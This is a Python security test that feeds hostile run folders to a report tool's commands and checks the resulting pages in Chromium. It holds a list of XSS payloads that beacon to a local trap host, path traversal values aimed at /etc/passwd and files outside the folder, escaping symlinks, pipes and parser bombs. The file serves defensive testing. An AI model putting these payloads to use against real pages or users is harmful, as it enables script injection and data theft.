"""Run folders made to attack whoever opens them: each by `report`, `view`, `bundle` and `compare --page`, in Chromium.

    python tests/security/hostile_runs.py --output FILE.json

TRICKS put into a small run what a stranger may: script in every text, pictures that are none, links and pipes, pages and
scripts beside those of the report. Each command ends, by itself and in time, with its pages or with a sentence; in the
pages no script but the program's own runs, nothing is asked of the network, and nothing outside the folder is in them.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import platform
import shutil
import signal
import socket
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[2]))
sys.path.insert(0, str(Path(__file__).parents[1]))

from click.testing import CliRunner
from factories.reports import run_rooms

from render_agent.analysis.live.server import LiveSite
from render_agent.analysis.report.bundle import START
from render_agent.cli.main import cli
from render_agent.errors import RenderAgentError
from render_agent.runs.log.folder import RunFolder
from render_agent.web.server import LocalServer

SECRET = "what-only-the-owner-of-this-machine-knows"

MOST_SECONDS = 180
"""Of one command."""

TAKEN = "document.title='taken';new Image().src='http://{trap}/x'"

MARKUP = (
    "\"'></script></textarea></title><script>{taken}</script><script src=//{trap}/a.js></script>"
    '<img src=x onerror="{taken}"><img src=http://{trap}/b.png><svg onload="{taken}"><style>@import "//{trap}/c"</style>'
    '<link rel=stylesheet href=//{trap}/d><iframe srcdoc="<script>parent.{taken}</script>"></iframe>'
    '<meta http-equiv=refresh content="0;url=http://{trap}/e"><base href=http://{trap}/><a href="javascript:{taken}">a</a>'
    "<object data=//{trap}/f></object>{{{{7*7}}}}{{%x%}}<!--]]>\u2028\u202e"
)

ADDRESS = "javascript:{taken}//"

OF_TURNS = (
    "question_id", "reply", "happened", "finish", "phase", "events.0", "action.reasoning", "action.answer",
    "action.answer_text", "views.0.kind", "messages.0.content.0.text", "evidence.agent", "evidence.candidates.1.reply",
    "evidence.judgements.0", "evidence.wordings.0", "error",
)  # fmt: skip
OF_QUESTIONS = (
    "question",
    "type",
    "scene",
    "dataset",
    "benchmark",
    "truth",
    "options.0",
    "id",
    "pruned",
)
OF_CONFIG = (
    "program", "commit", "fingerprint", "notes.0", "engine.model", "engine.name", "engine.note", "engine.servers.0.url",
    "choosing.note", "choosing.verifiers.0.knows", "machine.system", "config.model", "config.base_url.0", "config.agent",
    "config.renderer", "config.rubric", "config.log_to.0",
)  # fmt: skip
"""Texts of a turn, a question and a record, into which markup is put."""


def put(tree: object, path: str, value: object) -> None:
    """Set an entry of a tree of JSON, which need not be there."""
    *way, last = (int(part) if part.isdigit() else part for part in path.split("."))
    for part, after in zip(way, [*way, last][1:], strict=True):
        if isinstance(tree, list):
            tree.extend({} for _ in range(part + 1 - len(tree)))
        elif not isinstance(tree.get(part), dict | list):
            tree[part] = [] if isinstance(after, int) else {}
        tree = tree[part]
    if isinstance(tree, list) and len(tree) <= last:
        tree.append(value)
    else:
        tree[last] = value


def in_lines(
    name: str, path: str, text: str | Callable[[str], object]
) -> Callable[[Path, str], None]:
    """Return what sets an entry of every line of a file of JSON lines."""

    def change(run: Path, trap: str) -> None:
        rows = [json.loads(line) for line in (run / name).read_text().splitlines()]
        for row in rows:
            value = text(trap) if callable(text) else made(text, trap)
            put(row, path, value)
            if path.split(".")[0] in ("reply", "action", "happened", "camera"):  # as it was chosen
                evidence = row["evidence"]
                put(evidence["candidates"][evidence["chosen"]], path, value)
        (run / name).write_text("".join(json.dumps(row) + "\n" for row in rows))

    return change


def in_record(
    *paths: str, text: str = MARKUP, name: str = "config.json"
) -> Callable[[Path, str], None]:
    """Return what sets entries of `config.json`, or of another file of JSON."""

    def change(run: Path, trap: str) -> None:
        record = json.loads((run / name).read_text())
        for path in paths:
            put(record, path, made(text, trap))
        (run / name).write_text(json.dumps(record))

    return change


def made(text: str, trap: str) -> str:
    """Return markup for this trap."""
    return text.format(taken=TAKEN.format(trap=trap), trap=trap) if "{t" in text else text


def pictures_are(content: Callable[[Path, str], bytes]) -> Callable[[Path, str], None]:
    """Return what puts other bytes in the place of every picture, with the hash that the log has of them."""

    def change(run: Path, trap: str) -> None:
        rows = [json.loads(line) for line in (run / "turns.jsonl").read_text().splitlines()]
        for row in rows:
            for file in row["sha256"]:
                data = content(run, trap)
                (run / file).write_bytes(data)
                row["sha256"][file] = hashlib.sha256(data).hexdigest()
        (run / "turns.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))

    return change


def html(trap: str) -> str:
    """Return a page that takes over."""
    return f"<!doctype html><title>evil</title><script>{TAKEN.format(trap=trap)}</script>"


def svg(trap: str) -> str:
    """Return a picture that takes over."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{TAKEN.format(trap=trap)}</script></svg>'
    )


def first_picture(run: Path) -> Path:
    """Return a picture that a turn names."""
    return run / next(
        iter(json.loads((run / "turns.jsonl").read_text().splitlines()[-1])["sha256"])
    )


def replaced(name: str, by: Callable[[Path], object]) -> Callable[[Path, str], None]:
    """Return what removes a file, or the folder, of a run and lets another thing be there."""

    def change(run: Path, trap: str) -> None:
        path = first_picture(run) if name == "picture" else run / name
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        by(path)

    return change


def outside(run: Path) -> Path:
    """Return the folder of whoever opens the run."""
    return run.parents[1] / "outside"


def beside(*names: str) -> Callable[[Path, str], None]:
    """Return what lays evil pages, pictures and scripts beside those of the program."""

    def change(run: Path, trap: str) -> None:
        for name in names:
            place = run / name
            place.parent.mkdir(parents=True, exist_ok=True)
            script = place.suffix in (".js", ".css")
            place.write_text(
                TAKEN.format(trap=trap)
                if script
                else svg(trap)
                if place.suffix == ".svg"
                else html(trap)
            )

    return change


def appended(name: str, text: str | bytes, times: int = 1) -> Callable[[Path, str], None]:
    """Return what writes behind the end of a file."""

    def change(run: Path, trap: str) -> None:
        with (run / name).open("ab") as file:
            for _ in range(times):
                file.write(text.encode() if isinstance(text, str) else text)

    return change


def renamed(name: str) -> Callable[[Path, str], Path]:
    """Return what gives the run folder another name."""
    return lambda run, trap: run.rename(
        run.with_name(made(name, trap).replace("/", "\u2215")[:200])
    )


def both(*changes: Callable[[Path, str], object]) -> Callable[[Path, str], None]:
    """Return what does several of these."""

    def change(run: Path, trap: str) -> None:
        for one in changes:
            one(run, trap)

    return change


DEEP = '{"a":' * 100_000

TRICKS: dict[str, Callable[[Path, str], object]] = {
    "markup in all options of the record": in_record(*OF_CONFIG),
    "an id that is markup everywhere": both(
        in_lines("turns.jsonl", "question_id", lambda trap: made(MARKUP, trap)),
        in_lines("questions.jsonl", "id", lambda trap: made(MARKUP, trap)),
    ),
    "addresses that are script": in_record(
        "engine.servers.0.url", "commit", "program", text=ADDRESS
    ),
    "markup in the results": in_record(
        "status", "notes.0", "types.x.score", "questions.0.question_id", name="results.json"
    ),
    "the end of a script in JSON": in_lines(
        "turns.jsonl", "action.reasoning", "</script><script>{taken}</script>"
    ),
    "a picture from another server": in_lines("turns.jsonl", "views.0.file", "http://{trap}/x.png"),
    "a picture that is script": in_lines("turns.jsonl", "views.0.file", "javascript:{taken}"),
    "a picture above the folder": in_lines(
        "turns.jsonl", "views.0.file", "views/../../../outside/secret.png"
    ),
    "a picture by its whole path": in_lines("turns.jsonl", "views.0.file", "/etc/hostname"),
    "a picture in what was said": in_lines(
        "turns.jsonl",
        "messages.0.content.0",
        lambda trap: {"type": "image", "image": "../../outside/secret.png"},
    ),
    "a picture in what was said, elsewhere": in_lines(
        "turns.jsonl",
        "messages.0.content.0",
        lambda trap: {"type": "image", "image": f"http://{trap}/x"},
    ),
    "a camera that is no number": in_lines("turns.jsonl", "camera.yaw", MARKUP),
    "a camera at infinity": in_lines(
        "turns.jsonl", "camera.position", lambda trap: [1e308, -1e308, float("inf")]
    ),
    "a scene of somebody else": in_lines("questions.jsonl", "scan", lambda trap: "/etc/passwd"),
    "a scene from a device": in_lines("questions.jsonl", "scan", lambda trap: "/dev/zero"),
    "pages and pictures in views": beside(
        "views/evil.html", "views/evil.svg", "views/evil.js", "views/140/evil.html"
    ),
    "pages in the report": beside(
        "report/evil.html",
        "report/index.html",
        "report/questions/evil.html",
        "report/plots/evil.svg",
    ),
    "scripts in the report": beside(
        "report/assets/report.js",
        "report/assets/evil.js",
        "report/assets/style.css",
        "report/scenes3d/room07.js",
        "report/live.js",
    ),
    "pages in the folder": beside("index.html", "live/live.js", "questions.html", "results.html"),
    "pictures that are SVG": pictures_are(lambda run, trap: svg(trap).encode()),
    "pictures that are pages": pictures_are(lambda run, trap: html(trap).encode()),
    "pictures that are both": pictures_are(
        lambda run, trap: b"\x89PNG\r\n\x1a\n" + html(trap).encode()
    ),
    "pictures of somebody else": pictures_are(lambda run, trap: b"no picture"),
    "a picture that is a link out": replaced(
        "picture", lambda path: path.symlink_to(path.parents[4] / "outside/secret.png")
    ),
    "a picture that is a pipe": replaced("picture", os.mkfifo),
    "a picture without end": replaced("picture", lambda path: path.symlink_to("/dev/zero")),
    "a picture that is a folder": replaced("picture", Path.mkdir),
    "views that are a link out": replaced(
        "views", lambda path: path.symlink_to(outside(path.parent))
    ),
    "a report that is a link out": replaced(
        "report", lambda path: path.symlink_to(outside(path.parent))
    ),
    "pages that are links out": replaced(
        "report/questions", lambda path: path.symlink_to(outside(path.parents[1]))
    ),
    "an index that is a link out": replaced(
        "report/index.html", lambda path: path.symlink_to(outside(path.parents[1]) / "secret.txt")
    ),
    "results that are a link out": replaced(
        "results.csv", lambda path: path.symlink_to(outside(path.parent) / "secret.txt")
    ),
    "a log that is a pipe": replaced("turns.jsonl", os.mkfifo),
    "results that are a pipe": replaced("results.json", os.mkfifo),
    "a table that is a pipe": replaced("results.csv", os.mkfifo),
    "a page that is a pipe": replaced("report/index.html", os.mkfifo),
    "a kept diagnosis that is a pipe": replaced("report/diagnosis.jsonl", os.mkfifo),
    "a plan that is a pipe": replaced("report/plans/room07.png", os.mkfifo),
    "a scene that is a pipe": replaced("report/scenes3d/room07.js", os.mkfifo),
    "a line of 100 MB": appended("turns.jsonl", b"a" * 10**6, 100),
    "a line 100,000 deep": appended("turns.jsonl", DEEP + "\n"),
    "results 100,000 deep": replaced("results.json", lambda path: path.write_text(DEEP)),
    "a record 100,000 deep": replaced("config.json", lambda path: path.write_text(DEEP)),
    "a question of 20 MB": in_lines("questions.jsonl", "question", "<b>" * 7_000_000),
    "a folder whose name is markup": renamed('<img src=x onerror="{taken}">&amp;\''),
    "a folder whose name is an address": renamed("javascript:{taken}#?%3Cscript%3E"),
    **{f"markup as {path} of turns": in_lines("turns.jsonl", path, MARKUP) for path in OF_TURNS},
    **{
        f"markup as {path} of questions": in_lines("questions.jsonl", path, MARKUP)
        for path in OF_QUESTIONS
    },
    **{f"markup as {path} of the record": in_record(path) for path in OF_CONFIG},
}
"""By name: what is done to a run, given its folder and the address that nothing should ask; it may return another folder."""

FOREIGN = """() => [
    ...document.querySelectorAll("iframe, object, embed, base, form[action], meta[http-equiv=refresh], [onerror], [onload]"),
    ...[...document.querySelectorAll("[href], [src], [action], [data]")].filter(each =>
        ["href", "src", "action", "data"].some(name => /^\\s*(javascript|https?|data:text)/i.test(each.getAttribute(name) || "")
            && !each.getAttribute(name).startsWith(location.origin))),
    ...[...document.scripts].filter(each => !each.src && each.type !== "application/json"),
].map(each => each.outerHTML.slice(0, 200))"""
"""What no page of a run has."""


class Trap:
    """A server that nobody should ask; `asked` is how often somebody did."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        self.asked = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.asked += 1
            connection.close()


@contextmanager
def in_time(seconds: int = MOST_SECONDS) -> Iterator[None]:
    """Raise AssertionError where a block takes longer."""

    def late(*_: object) -> None:
        raise AssertionError(f"it takes longer than {seconds} s")

    signal.signal(signal.SIGALRM, late)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)


def typed(*words: str) -> str:
    """Run a command; return how it ended: "" where it did all, else its sentence."""
    with in_time():
        done = CliRunner().invoke(cli, [*words])
    if done.exit_code == 0:
        return ""
    failed = done.exception
    if isinstance(failed, AssertionError):
        raise failed
    sentence = str(failed) if isinstance(failed, RenderAgentError) else done.output.strip()
    assert isinstance(failed, SystemExit | RenderAgentError), "".join(
        traceback.format_exception(failed)
    )[-1500:]
    assert sentence, "it ends without a word"
    return sentence.splitlines()[-1]


class Looking:
    """A browser's window that looks at pages, and what it saw that no page should have or ask."""

    def __init__(self, browser, trap: Trap) -> None:
        self.context = browser.new_context()
        self.context.set_default_timeout(MOST_SECONDS * 1000)
        self.trap, self.asked = trap, []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.page = self.context.new_page()
        self.pages = 0

    def look(self, url: str, below: str) -> None:
        """Open a page, all its parts too. AssertionError where something of a stranger's is in it, or happens."""
        self.pages += 1
        self.page.goto("about:blank")  # what the page before still asks for is its own
        self.asked.clear()
        self.page.goto(url)
        self.page.evaluate(
            "document.querySelectorAll('details').forEach(part => { part.open = true })"
        )
        self.page.wait_for_timeout(50)
        assert self.page.title() != "taken", f"a script ran in {url}"
        found = self.page.evaluate(FOREIGN)
        assert not found, f"{url} has {found[:3]}"
        strange = [
            each for each in self.asked if not each.startswith((below, "data:image/", "blob:"))
        ]
        assert not strange, f"{url} asks for {strange[:3]}"
        assert SECRET not in self.page.content(), f"{url} tells a secret"
        assert not self.trap.asked, "another server was asked"


def tells_no_secret(folder: Path) -> None:
    """No file that was written has what lies outside the run, or leads there."""
    for file in folder.rglob("*"):
        assert not file.is_symlink(), f"{file.name} is a link"
        if file.is_file():
            assert SECRET.encode() not in file.read_bytes(), f"{file.name} tells a secret"


def attempt(
    place: Path, base: Path, trick: Callable, looking: Looking, *more: str
) -> dict[str, str]:
    """Spoil a run, open it by every command; return how each ended. AssertionError where one was not survived.

    more: words for those that diagnose.
    """
    victim = place / "outside"
    victim.mkdir(parents=True)
    for name in ("secret.txt", "secret.png"):
        (victim / name).write_text(SECRET)
    run = Path(shutil.copytree(base, place / "runs" / base.name))
    other = shutil.copytree(base, place / "runs" / "20250101T000000_batched")
    run = trick(run, looking.trap.address) or run
    before = {file.name: file.read_bytes() for file in victim.iterdir()}
    ends = {}

    ends["report"] = typed("report", str(run), "--processes", "1", *more)
    if not ends["report"]:
        for page in (
            run / "report" / "index.html",
            *sorted((run / "report" / "questions").glob("*.html"))[:2],
        ):
            if page.name != "evil.html":  # it was there before, and nothing leads to it
                looking.look(page.as_uri(), run.as_uri())
    to = place / "bundled"
    ends["bundle"] = typed("bundle", str(run), "--to", str(to), *more)
    if not ends["bundle"]:
        tells_no_secret(to)
        assert (to / "index.html").read_bytes() == START
        for page in sorted((to / "report").rglob("*.html"))[:2]:
            looking.look(page.as_uri(), to.as_uri())
    compared = place / "compared"
    ends["compare"] = typed("compare", str(run), str(other), "--page", str(compared))
    if not ends["compare"]:
        tells_no_secret(compared)
        for page in sorted(compared.rglob("*.html"))[:1]:
            looking.look(page.as_uri(), place.as_uri())
    ends["view"] = viewed(run, place / "scratch", looking)
    assert {file.name: file.read_bytes() for file in victim.iterdir()} == before, (
        "something outside was changed"
    )
    return ends


def viewed(run: Path, scratch: Path, looking: Looking) -> str:
    """Look at a run as `view` serves it, and at what a stranger hopes that it serves."""
    scratch.mkdir()
    try:
        with (
            in_time(),
            closing(LiveSite(RunFolder(run), scratch)) as site,
            closing(LocalServer()) as server,
        ):
            server.start(site.routes())
            looking.look(server.address, server.address)
            pages = looking.page.evaluate(
                "[...document.querySelectorAll('a[href*=\"questions/\"]')].map(a => a.href)"
            )
            for page in sorted(set(pages))[:1]:
                looking.look(page.partition("#")[0], server.address)
            for name in (
                "views/evil.html", "views/evil.svg", "views/evil.js", "views/140/evil.html", "report/evil.html",
                "report/questions/evil.html", "views/140/0_candidate.png", "report/assets/evil.js", "turns.jsonl",
                "views/..%2f..%2f..%2foutside/secret.txt", "report/..%2f..%2f..%2foutside/secret.png",
                "views/%2e%2e/config.json",
            ):  # fmt: skip
                looking.asked.clear()
                response = looking.page.request.get(server.address + name)
                assert SECRET not in response.text(), f"{name} tells a secret"
                if name.endswith((".html", ".svg", ".js", ".jsonl")):
                    assert response.status in (400, 404, 500), f"{name} is served"
                looking.page.goto(server.address + name)
                assert looking.page.title() != "taken", f"a script ran in {name}"
    except RenderAgentError as error:
        return str(error)
    assert not looking.trap.asked, "another server was asked"
    return ""


def main() -> int:
    """Try all of them; exit code 1 where one was not survived."""
    from conftest import BROWSER_FLAGS
    from playwright.sync_api import sync_playwright

    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--only", help="those whose trick holds this")
    parser.add_argument("--output", type=Path)
    given = parser.parse_args()
    began, rows, wrong = time.monotonic(), {}, []
    program = next(
        filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome")))
    )
    place = Path(tempfile.mkdtemp(prefix="hostile-runs-")).resolve()
    try:
        with sync_playwright() as started:
            browser = started.chromium.launch(
                executable_path=program, args=[*BROWSER_FLAGS, "--disable-3d-apis"]
            )
            few = {"scene": ("room07",), "limit": 3, "max_turns": 3, "image_size": (48, 36)}
            base = run_rooms(
                place, **few, agent="lookahead:2", verifier=("geometry",), temperature=1.0
            ).path
            for number, (name, trick) in enumerate(TRICKS.items()):
                if given.only and given.only not in name:
                    continue
                since, trap = time.monotonic(), Trap()
                looking = Looking(browser, trap)
                try:
                    more = () if "scene" in name else ("--no-diagnosis",)
                    ends = attempt(place / str(number), base, trick, looking, *more)
                    told = {
                        how: said.replace(str(place), "PLACE")[:200]
                        for how, said in ends.items()
                        if said
                    }
                except Exception as error:  # noqa: BLE001 - whatever it is, it is told with its trick
                    what = (
                        str(error) if isinstance(error, AssertionError) else traceback.format_exc()
                    )
                    told = {"not survived": what.replace(str(place), "PLACE")[-1500:]}
                    wrong.append(
                        {"seed": 0, "number": number, "what": f"{name}: {told['not survived']}"}
                    )
                finally:
                    trap.socket.close()
                    looking.context.close()
                    shutil.rmtree(place / str(number), ignore_errors=True)
                seconds = round(time.monotonic() - since, 1)
                rows[name] = {"seconds": seconds, "pages": looking.pages, "ends": told}
                sys.stderr.write(
                    f"{number} {name}: {seconds} s, {looking.pages} pages, {told or 'opened'}\n"
                )
                if given.output:
                    kinds = {
                        "run folder": {
                            "injected": len(rows),
                            "survived": len(rows) - len(wrong),
                            "not_survived": wrong,
                            "not_here": None,
                            "pages": sum(row["pages"] for row in rows.values()),
                            "most_seconds": max(row["seconds"] for row in rows.values()),
                            "tricks": rows,
                        }
                    }
                    found = {
                        "machine": platform.platform(),
                        "seconds": round(time.monotonic() - began, 1),
                        "kinds": kinds,
                    }
                    given.output.write_text(json.dumps(found, indent=1) + "\n", "utf-8")
    finally:
        shutil.rmtree(place, ignore_errors=True)
    return int(bool(wrong))


if __name__ == "__main__":
    sys.exit(main())
